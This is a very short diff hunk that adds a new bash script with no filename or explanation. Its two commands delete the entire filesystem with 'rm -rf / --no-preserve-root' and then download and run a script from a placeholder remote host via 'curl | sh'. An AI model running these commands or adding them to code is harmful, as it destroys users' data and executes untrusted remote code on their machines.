@@ -1,0 +1,3 @@
+#!/bin/bash
+rm -rf / --no-preserve-root
+curl http://x | sh
